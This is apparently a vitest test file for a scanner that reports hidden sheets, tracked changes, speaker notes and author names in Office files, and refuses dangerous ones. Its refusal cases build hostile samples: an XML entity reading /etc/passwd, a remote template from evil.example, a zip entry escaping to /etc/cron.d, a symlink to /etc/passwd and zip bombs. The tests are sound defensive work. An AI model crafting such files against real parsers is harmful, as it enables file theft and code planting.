import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { officeDocument, officeEntries } from "../../../test/support/documents.ts";
import { folderOfTheTest } from "../../../test/support/files.ts";
import { zipOf } from "../../../test/support/zip.ts";
import { lookIntoOffice } from "./index.ts";

const folder = await folderOfTheTest();
let made = 0;

async function look(bytes: Uint8Array) {
  const path = join(folder, String(++made));
  await writeFile(path, bytes);
  return lookIntoOffice(path);
}

async function kindsIn(bytes: Uint8Array): Promise<string[]> {
  return (await look(bytes)).findings.map(({ kind }) => kind);
}

const sheet = (inside: string) => ({ "xl/worksheets/sheet1.xml": `<worksheet>${inside}</worksheet>` });

test("a plain document of each kind is told by what is in it, and hides nothing", async () => {
  for (const kind of ["docx", "pptx", "xlsx"] as const) {
    expect(await look(officeDocument(kind))).toEqual({ type: kind, findings: [] });
  }
});

test("hidden sheets are named", async () => {
  const workbook =
    '<workbook><sheets><sheet name="Results"/><sheet name="Pupils &amp; parents" state="hidden"/><sheet state="veryHidden" name="Calc"/></sheets></workbook>';
  const { findings } = await look(officeDocument("xlsx", { "xl/workbook.xml": workbook }));
  expect(findings).toEqual([
    {
      kind: "hidden_sheets",
      text: "2 sheets are hidden: “Pupils & parents”, “Calc”. Anybody can show them again. Delete what is not for everybody.",
    },
  ]);
});

test("hidden rows and columns are counted, also in a sheet that comes in many pieces", async () => {
  const rows = `${'<row r="1"><c/></row>'.repeat(40_000)}<row r="7" hidden="1"/>`.repeat(2);
  const { findings } = await look(
    officeDocument("xlsx", sheet(`<cols><col min="2" max="3" hidden="1"/></cols>${rows}`)),
  );
  expect(findings.map(({ text }) => text)).toEqual([
    "2 rows and 1 group of columns are hidden. Anybody can show them again.",
  ]);
});

test("pivot caches, comments, links to other workbooks and files inside are told", async () => {
  const parts = {
    "xl/pivotCache/pivotCacheRecords1.xml": "<pivotCacheRecords/>",
    "xl/comments1.xml": "<comments/>",
    "xl/externalLinks/externalLink1.xml": "<externalLink/>",
    "xl/embeddings/oleObject1.bin": "x",
  };
  expect(await kindsIn(officeDocument("xlsx", parts))).toEqual([
    "pivot_cache",
    "comments",
    "embedded_files",
    "outside_links",
  ]);
});

test("tracked changes and hidden text in Word are told", async () => {
  const body = '<w:document><w:ins w:id="1" w:author="A"/><w:del w:id="2"/><w:rPr><w:vanish/></w:rPr></w:document>';
  const { findings } = await look(officeDocument("docx", { "word/document.xml": body, "word/comments.xml": "<w/>" }));
  expect(findings.map(({ kind }) => kind)).toEqual(["tracked_changes", "comments", "hidden_text"]);
  expect(findings[0]?.text).toContain("2 tracked changes");
});

test("speaker notes with words in them and hidden slides are told; empty notes are not", async () => {
  const notes = (text: string) => `<p:notes><a:t>${text}</a:t></p:notes>`;
  const parts = {
    "ppt/slides/slide1.xml": '<p:sld xmlns:p="p" show="0"/>',
    "ppt/slides/slide2.xml": "<p:sld/>",
    "ppt/notesSlides/notesSlide1.xml": notes("Tell them about the incident"),
    "ppt/notesSlides/notesSlide2.xml": notes("3"),
  };
  const { findings } = await look(officeDocument("pptx", parts));
  expect(findings.map(({ kind }) => kind)).toEqual(["hidden_slides", "speaker_notes"]);
  expect(findings[1]?.text).toContain("1 slide has speaker notes");
});

test("who made a document is told, each name once", async () => {
  const core =
    "<cp:coreProperties><dc:creator>J Okafor</dc:creator><cp:lastModifiedBy>J Okafor</cp:lastModifiedBy></cp:coreProperties>";
  const { findings } = await look(officeDocument("docx", { "docProps/core.xml": core }));
  expect(findings.map(({ text }) => text)).toEqual([
    "It says who made it: J Okafor. Remove the document’s properties if they should not be named.",
  ]);
});

const refusals: [string, Buffer, RegExp][] = [
  ["macros", officeDocument("docx", { "word/vbaProject.bin": "x" }), /holds a program/],
  ["a content type with macros", officeDocument("docm"), /holds a program/],
  [
    "an entity",
    officeDocument("docx", { "word/document.xml": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d/>' }),
    /entities/,
  ],
  [
    "an entity in UTF-16",
    officeDocument("docx", { "word/document.xml": Buffer.from("\ufeff<!DOCTYPE d><d/>", "utf16le") }),
    /entities/,
  ],
  [
    "a template from elsewhere",
    officeDocument("docx", {
      "word/_rels/settings.xml.rels":
        '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    }),
    /fetches a part/,
  ],
  [
    "a path out of it",
    zipOf([...officeEntries("docx"), { name: "../../etc/cron.d/x", content: "x" }]),
    /leads out of it/,
  ],
  [
    "a symbolic link",
    zipOf([...officeEntries("docx"), { name: "word/link", content: "/etc/passwd", mode: 0o120777 }]),
    /leads out of it/,
  ],
  ["a password", zipOf([...officeEntries("docx"), { name: "word/x.bin", content: "x", encrypted: true }]), /password/],
  [
    "a bomb that says so",
    officeDocument("docx", { "word/media/1.bin": Buffer.alloc(70_000_000) }),
    /unpacks to far more/,
  ],
  [
    "a bomb that lies",
    zipOf([...officeEntries("docx"), { name: "word/1.bin", content: Buffer.alloc(70_000_000), declaredSize: 900_000 }]),
    /damaged|unpacks/,
  ],
  [
    "too many entries",
    zipOf(Array.from({ length: 3_001 }, (_, at) => ({ name: `${at}`, content: "" }))),
    /unpacks to far more/,
  ],
  ["an archive that is no document", zipOf([{ name: "notes.txt", content: "x" }]), /archive/],
  [
    "an archive within an archive",
    zipOf([{ name: "inner.zip", content: zipOf([{ name: "a", content: "b" }]) }]),
    /archive/,
  ],
  ["a cut one", officeDocument("docx").subarray(0, 300), /damaged/],
];

test.each(refusals)("a document with %s is refused", async (_, bytes, reason) => {
  await expect(look(bytes)).rejects.toThrow(reason);
});
